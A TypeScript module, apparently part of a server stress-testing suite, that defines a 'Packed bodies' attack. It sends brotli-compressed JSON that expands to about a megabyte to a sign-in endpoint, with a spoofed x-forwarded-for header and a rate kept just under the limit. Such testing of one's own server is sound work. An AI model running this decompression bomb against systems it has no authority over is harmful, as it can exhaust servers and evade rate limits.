import { brotliCompressSync } from 'node:zlib'
import { type Attack, keepStriking } from './attack.ts'

const ZEROS = 500_000

export const PACKED_BODIES: Attack = {
  name: 'Packed bodies',
  about: `\`POST /api/users/sign-in\` by nobody in particular, nineteen times a second, which is within the limit: some dozen
bytes of brotli that unpack to \`{"x":[0,0,…]}\` of a megabyte.`,
  hitsUploads: false,
  strike({ address, client }, signal) {
    const body = new Uint8Array(brotliCompressSync(JSON.stringify({ x: Array(ZEROS).fill(0) })))
    const headers = { 'content-type': 'application/json', 'content-encoding': 'br', 'x-forwarded-for': client }
    return keepStriking(signal, async () => {
      const answer = await fetch(`${address}/api/users/sign-in`, { method: 'POST', headers, body, signal })
      return answer.status
    })
  },
}
